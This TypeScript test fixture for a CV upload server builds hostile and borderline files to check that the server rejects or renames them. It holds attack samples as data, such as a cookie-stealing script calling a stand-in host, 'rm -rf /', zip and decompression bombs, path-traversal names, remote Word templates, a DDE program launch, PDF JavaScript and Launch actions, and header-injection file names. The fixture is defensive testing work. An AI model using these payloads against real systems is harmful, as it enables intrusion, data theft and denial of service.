/** Malicious and broken uploads, and harmless ones that look suspicious: only the harmless ones may be stored. */
import { deflateSync } from 'node:zlib'
import type { FileProblem } from '@anupalan/server/contract'
import { writeDocx, writeZip } from './zip.ts'

export interface HostileFile {
  readonly what: string
  /** File name of the sender. */
  readonly name: string
  /** Media type of the sender. */
  readonly type: string
  readonly make: () => Buffer
  /** The problem, or the name under which a harmless file is stored. */
  readonly expected: FileProblem | 'malformedForm' | { readonly storedAs: string }
}

const text = (content: string) => Buffer.from(content, 'latin1')

const pdfEnd = '\ntrailer <<>>\nstartxref\n9\n%%EOF\n'
export const smallPdf = (inside = '1 0 obj <<>> endobj') => text(`%PDF-1.7\n${inside}${pdfEnd}`)

const svg = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'
const html = '<!doctype html><html><script>fetch("//elsewhere.example/"+document.cookie)</script></html>'

/** A PNG whose header states 20,000 × 20,000 pixels: 1.6 GB when decoded. */
function hugePng(): Buffer {
  const head = Buffer.alloc(25)
  head.writeUInt32BE(13, 0)
  head.write('IHDR', 4)
  head.writeUInt32BE(20_000, 8)
  head.writeUInt32BE(20_000, 12)
  head.set([8, 6, 0, 0, 0], 16)
  return Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), head])
}

const compoundFile = () =>
  Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), Buffer.alloc(2048)])

/** A relationships part with one relationship of an Office type. */
const relationshipTo = (type: string, target: string, mode = 'External') =>
  `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="${mode}"/></Relationships>`

/** A compressed object stream of a PDF. @param first offset of its first object */
function objectStream(inside: string, keys = '/Type/ObjStm', first = 4): string {
  const packed = deflateSync(Buffer.from(inside, 'latin1')).toString('latin1')
  const filter = keys.includes('/Filter') ? '' : '/Filter/FlateDecode'
  return `9 0 obj <<${keys}/N 1/First ${first}${filter}/Length ${packed.length}>>stream\r\n${packed}\r\nendstream endobj`
}

const megabyte = 1024 * 1024
const pdf = 'application/pdf'
const word = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document'
const macroMain = 'application/vnd.ms-word.document.macroEnabled.main+xml'

const file = (
  what: string,
  name: string,
  type: string,
  make: () => Buffer,
  expected: HostileFile['expected'],
): HostileFile => ({ what, name, type, make, expected })

export const hostileFiles: readonly HostileFile[] = [
  file('an SVG with a script', 'cv.svg', 'image/svg+xml', () => text(svg), 'wrongKind'),
  file('an SVG called PDF', 'cv.pdf', pdf, () => text(svg), 'wrongKind'),
  file('a web page', 'cv.html', 'text/html', () => text(html), 'wrongKind'),
  file('a web page called PDF', 'cv.pdf', pdf, () => text(html), 'wrongKind'),
  file(
    'a web page that contains the magic number of PDF',
    'cv.pdf',
    pdf,
    () => text(`${html}\n%PDF-1.7${pdfEnd}`),
    'wrongKind',
  ),
  file(
    'a PDF followed by a web page',
    'cv.pdf',
    pdf,
    () => Buffer.concat([smallPdf(), text(html)]),
    'damaged',
  ),
  file('a PDF followed by a zip', 'cv.pdf', pdf, () => Buffer.concat([smallPdf(), writeDocx()]), 'damaged'),
  file('a zip preceded by a PDF', 'cv.docx', word, () => Buffer.concat([smallPdf(), writeDocx()]), 'damaged'),
  file(
    'a GIF followed by a Word document',
    'cv.docx',
    word,
    () => Buffer.concat([text('GIF89a'), writeDocx()]),
    'wrongKind',
  ),
  file(
    'a Word document with a PDF as its zip comment',
    'cv.docx',
    word,
    () => writeDocx([], undefined, `%PDF-1.7${pdfEnd}`),
    'damaged',
  ),
  file('a PDF that contains a web page', 'cv.pdf', pdf, () => smallPdf(html), { storedAs: 'cv.pdf' }),
  file('a program', 'cv.exe', 'application/octet-stream', () => text(`MZ${'\0'.repeat(200)}`), 'wrongKind'),
  file('a program called PDF', 'cv.pdf', pdf, () => text(`MZ${'\0'.repeat(200)}`), 'wrongKind'),
  file('an ELF program', 'cv.docx', word, () => text(`\x7fELF${'\0'.repeat(200)}`), 'wrongKind'),
  file('a shell script', 'cv.sh', 'text/x-sh', () => text('#!/bin/sh\nrm -rf /\n'), 'wrongKind'),
  file(
    'a Java archive',
    'cv.docx',
    word,
    () => writeZip([{ name: 'META-INF/MANIFEST.MF', bytes: 'Main-Class: X' }]),
    'wrongKind',
  ),
  file(
    'an Excel workbook',
    'cv.docx',
    word,
    () =>
      writeZip([
        { name: '[Content_Types].xml', bytes: '<Types/>' },
        { name: 'xl/workbook.xml', bytes: '<x/>' },
      ]),
    'wrongKind',
  ),
  file('an old Word document', 'cv.doc', 'application/msword', compoundFile, 'wrongKind'),
  file(
    'a password-protected Word document',
    'cv.docx',
    word,
    () => Buffer.concat([compoundFile(), Buffer.from('EncryptedPackage', 'utf16le'), Buffer.alloc(512)]),
    'locked',
  ),
  file('an image of 20,000 pixels', 'cv.png', 'image/png', hugePng, 'wrongKind'),
  file('an image of 20,000 pixels called PDF', 'cv.pdf', pdf, hugePng, 'wrongKind'),
  file(
    'an image of 20,000 pixels inside a Word document',
    'cv.docx',
    word,
    () => writeDocx([{ name: 'word/media/image1.png', bytes: hugePng() }]),
    { storedAs: 'cv.docx' },
  ),
  file('an empty file', 'cv.pdf', pdf, () => Buffer.alloc(0), 'empty'),
  file('one byte', 'cv.pdf', pdf, () => text('%'), 'wrongKind'),
  file('zeros', 'cv.pdf', pdf, () => Buffer.alloc(4096), 'wrongKind'),
  file('only the magic number of PDF', 'cv.pdf', pdf, () => text('%PDF-1.7'), 'damaged'),
  file('a truncated PDF', 'cv.pdf', pdf, () => smallPdf('x'.repeat(4000)).subarray(0, 2000), 'damaged'),
  file(
    'a truncated Word document',
    'cv.docx',
    word,
    () => {
      const whole = writeDocx()
      return whole.subarray(0, whole.length / 2)
    },
    'damaged',
  ),
  file(
    'one byte above the limit',
    'cv.pdf',
    pdf,
    () => smallPdf('%'.repeat(5 * megabyte + 1 - smallPdf('').length)),
    'large',
  ),
  file(
    'exactly at the limit',
    'cv.pdf',
    pdf,
    () => smallPdf('%'.repeat(5 * megabyte - smallPdf('').length)),
    { storedAs: 'cv.pdf' },
  ),
  file(
    'a zip bomb: one part of 80 MB',
    'cv.docx',
    word,
    () => writeDocx([{ name: 'word/media/a.bin', bytes: Buffer.alloc(80 * megabyte) }]),
    'damaged',
  ),
  file(
    'a zip bomb with a false size in the one part that is read',
    'cv.docx',
    word,
    () =>
      writeZip([
        { name: '[Content_Types].xml', bytes: Buffer.alloc(40 * megabyte), claims: 100 },
        { name: 'word/document.xml', bytes: '<w/>' },
      ]),
    'damaged',
  ),
  file(
    'a zip bomb of overlapping parts',
    'cv.docx',
    word,
    () =>
      writeDocx(
        Array.from({ length: 500 }, (_, index) => ({
          name: `word/media/${index}.bin`,
          bytes: Buffer.alloc(100_000),
          isOverlapping: true,
        })),
      ),
    'damaged',
  ),
  file(
    'a zip of 5,000 parts',
    'cv.docx',
    word,
    () => writeDocx(Array.from({ length: 5_000 }, (_, index) => ({ name: `word/${index}`, bytes: '' }))),
    'damaged',
  ),
  file(
    'a part with path traversal',
    'cv.docx',
    word,
    () => writeDocx([{ name: '../../../etc/cron.d/x', bytes: 'x' }]),
    'damaged',
  ),
  file(
    'a part with an absolute path',
    'cv.docx',
    word,
    () => writeDocx([{ name: '/etc/passwd', bytes: 'x' }]),
    'damaged',
  ),
  file(
    'a part with backslashes',
    'cv.docx',
    word,
    () => writeDocx([{ name: '..\\..\\x', bytes: 'x' }]),
    'damaged',
  ),
  file(
    'a duplicate part',
    'cv.docx',
    word,
    () => writeDocx([{ name: 'word/document.xml', bytes: '<other/>' }]),
    'damaged',
  ),
  file(
    'an encrypted part',
    'cv.docx',
    word,
    () => writeDocx([{ name: 'word/media/x', bytes: 'x', isEncrypted: true }]),
    'locked',
  ),
  file(
    'a Word document with macros',
    'cv.docm',
    word,
    () => writeDocx([{ name: 'word/vbaProject.bin', bytes: 'x' }], macroMain),
    'macros',
  ),
  file('macros called docx', 'cv.docx', word, () => writeDocx([], macroMain), 'macros'),
  file(
    'macros in upper case',
    'cv.docx',
    word,
    () => writeDocx([{ name: 'word/VBAPROJECT.BIN', bytes: 'x' }]),
    'macros',
  ),
  ...[
    ['a remote template', relationshipTo('attachedTemplate', 'https://elsewhere.example/x.dotm')],
    [
      'a template as a UNC path of another machine',
      relationshipTo('attachedTemplate', String.raw`\\\\elsewhere\\share\\x.dotm`),
    ],
    [
      'a template as a file URL of another machine',
      relationshipTo('attachedTemplate', 'file://elsewhere/x.dotm'),
    ],
    [
      'a remote template by entities',
      relationshipTo('attachedTemplat&#101;', 'https://elsewhere.example/x', 'Externa&#x6c;'),
    ],
    ['a remote image', relationshipTo('image', 'https://elsewhere.example/seen.png')],
    ['a remote OLE object', relationshipTo('oleObject', 'https://elsewhere.example/x.xls')],
    ['a frame', relationshipTo('frame', 'https://elsewhere.example/')],
    ['a web page inside', relationshipTo('aFChunk', '/word/chunk.html', 'Internal')],
  ].map(([what, rels]) =>
    file(
      `a Word document with ${what}`,
      'cv.docx',
      word,
      () => writeDocx([{ name: 'word/_rels/settings.xml.rels', bytes: rels! }]),
      'active',
    ),
  ),
  file(
    'a Word document with a remote template in UTF-16',
    'cv.docx',
    word,
    () =>
      writeDocx([
        {
          name: 'word/_rels/settings.xml.rels',
          bytes: Buffer.from(
            `\uFEFF${relationshipTo('attachedTemplate', 'https://elsewhere.example/x')}`,
            'utf16le',
          ),
        },
      ]),
    'active',
  ),
  file(
    'a Word document whose relationships define entities',
    'cv.docx',
    word,
    () =>
      writeDocx([
        {
          name: 'word/_rels/settings.xml.rels',
          bytes: `<!DOCTYPE x [<!ENTITY e "External">]>${relationshipTo('attachedTemplate', 'x', '&e;')}`,
        },
      ]),
    'damaged',
  ),
  file(
    'a Word document with an OLE object',
    'cv.docx',
    word,
    () => writeDocx([{ name: 'word/embeddings/oleObject1.bin', bytes: compoundFile() }]),
    'active',
  ),
  file(
    'a Word document with ActiveX',
    'cv.docx',
    word,
    () => writeDocx([{ name: 'word/activeX/activeX1.xml', bytes: '<x/>' }]),
    'active',
  ),
  file(
    'a Word document with a field that starts a program, split into pieces',
    'cv.docx',
    word,
    () =>
      writeDocx([
        {
          name: 'word/header1.xml',
          bytes:
            '<w:hdr><w:instrText> DDE</w:instrText><w:instrText xml:space="preserve">AUTO c:\\\\x.exe "/k"</w:instrText></w:hdr>',
        },
      ]),
    'active',
  ),
  file(
    'a Word document with links, and with a template on its author’s disk',
    'cv.docx',
    word,
    () =>
      writeDocx([
        {
          name: 'word/_rels/document.xml.rels',
          bytes: relationshipTo('hyperlink', 'https://linkedin.example/in/lakshmi'),
        },
        {
          name: 'word/_rels/settings.xml.rels',
          bytes: relationshipTo('attachedTemplate', String.raw`file:///C:\\Users\\L\\Templates\\Normal.dotm`),
        },
        { name: 'word/header1.xml', bytes: '<w:hdr><w:instrText> PAGE </w:instrText>Added 2 years</w:hdr>' },
      ]),
    { storedAs: 'cv.docx' },
  ),
  ...[
    ['a script', '1 0 obj <</S/JavaScript/JS(app.alert(1))>> endobj'],
    [
      'a script that runs when it is opened',
      '1 0 obj <</Type/Catalog/OpenAction<</S /JavaScript /JS 2 0 R>>>> endobj',
    ],
    ['a script with escaped names', '1 0 obj <</S/J#61vaScr#69pt/#4A#53(x)>> endobj'],
    [
      'a script in an object that begins inside a string',
      '1 0 obj (text 2 0 obj <</S/JavaScript>> endobj) endobj',
    ],
    [
      'a script in an object that begins inside a comment',
      '% 2 0 obj <</JS(x)>> endobj\n1 0 obj <<>> endobj',
    ],
    [
      'a script in an object that begins inside a stream',
      '1 0 obj <</Length 9>> stream\n2 0 obj <</JS(x)>> endobj\nendstream endobj',
    ],
    ['an action that starts a program', '1 0 obj <</S/Launch/F(cmd.exe)>> endobj'],
    ['an embedded file', '1 0 obj <</Type/EmbeddedFile/Length 1>> stream\nx\nendstream endobj'],
    ['a form that is submitted', '1 0 obj <</S/SubmitForm/F(https://elsewhere.example)>> endobj'],
    ['a script in an object stream', objectStream('1 0 <</S/JavaScript/JS(x)>>')],
    ['a script in an object stream without its type', objectStream('1 0 <</S/JavaScript/JS(x)>>', '')],
    [
      'a script hidden by a string in an object stream',
      objectStream('1 0 2 14 (never closed <</JS(x)>>', '/Type/ObjStm', 8),
    ],
    ['an object stream with another filter', objectStream('1 0 <<>>', '/Type/ObjStm/Filter/LZWDecode')],
    [
      'an object stream with two filters',
      objectStream('1 0 <<>>', '/Type/ObjStm/Filter[/ASCIIHexDecode/FlateDecode]'),
    ],
  ].map(([what, inside]) => file(`a PDF with ${what}`, 'cv.pdf', pdf, () => smallPdf(inside), 'active')),
  file(
    'an encrypted PDF',
    'cv.pdf',
    pdf,
    () =>
      text(
        '%PDF-1.7\n1 0 obj <</JS(x)>> endobj\ntrailer <</Encrypt 2 0 R/Root 1 0 R>>\nstartxref\n9\n%%EOF\n',
      ),
    'locked',
  ),
  file(
    'an encrypted PDF with a cross-reference stream',
    'cv.pdf',
    pdf,
    () => smallPdf('1 0 obj <</Type/XRef/Encrypt 2 0 R/Length 1>> stream\nx\nendstream endobj'),
    'locked',
  ),
  file(
    'a PDF whose object stream is a decompression bomb',
    'cv.pdf',
    pdf,
    () => smallPdf(objectStream(' '.repeat(40 * megabyte))),
    'damaged',
  ),
  file('a PDF of overlapping objects', 'cv.pdf', pdf, () => smallPdf('1 0 obj '.repeat(500_000)), 'damaged'),
  file(
    'a PDF that mentions scripts in text and opens at a page',
    'cv.pdf',
    pdf,
    () =>
      smallPdf(
        `1 0 obj <</Title(HTML/CSS/JavaScript \\( /JS)/OpenAction[3 0 R/Fit]/URI(https://x.example/JS)>> endobj\n${objectStream('1 0 <</Title(/JavaScript)>>')}\n2 0 obj <</Filter/FlateDecode/Length 9>> stream\n /JS /Launch \nendstream endobj`,
      ),
    { storedAs: 'cv.pdf' },
  ),
  file('a PDF with two extensions', 'cv.pdf.exe', pdf, smallPdf, { storedAs: 'cv.pdf.exe.pdf' }),
  file('a PDF whose name has path traversal', '../../../../etc/passwd', pdf, smallPdf, {
    storedAs: 'passwd.pdf',
  }),
  file('a PDF whose name has a NUL', 'cv.php\0.pdf', pdf, smallPdf, 'malformedForm'),
  file('a PDF declared as a web page', 'cv.html', 'text/html', smallPdf, { storedAs: 'cv.html.pdf' }),
  file('a PDF whose name is a header', 'cv.pdf\r\nContent-Type: text/html', pdf, smallPdf, 'missing'),
  file('a PDF with a Hindi name', 'लक्ष्मी-नारायण.pdf', pdf, smallPdf, { storedAs: 'लक्ष्मी-नारायण.pdf' }),
]

/** A multipart body, with the file name unescaped. */
export function rawForm(
  fields: Readonly<Record<string, string>>,
  { name, type, make }: Pick<HostileFile, 'name' | 'type' | 'make'>,
): { readonly body: Buffer; readonly contentType: string } {
  const boundary = '----anupalan-test-boundary'
  const parts = Object.entries(fields).map(([field, value]) =>
    Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="${field}"\r\n\r\n${value}\r\n`),
  )
  const head = `--${boundary}\r\nContent-Disposition: form-data; name="cv"; filename="${name}"\r\nContent-Type: ${type}\r\n\r\n`
  return {
    body: Buffer.concat([...parts, Buffer.from(head), make(), Buffer.from(`\r\n--${boundary}--\r\n`)]),
    contentType: `multipart/form-data; boundary=${boundary}`,
  }
}
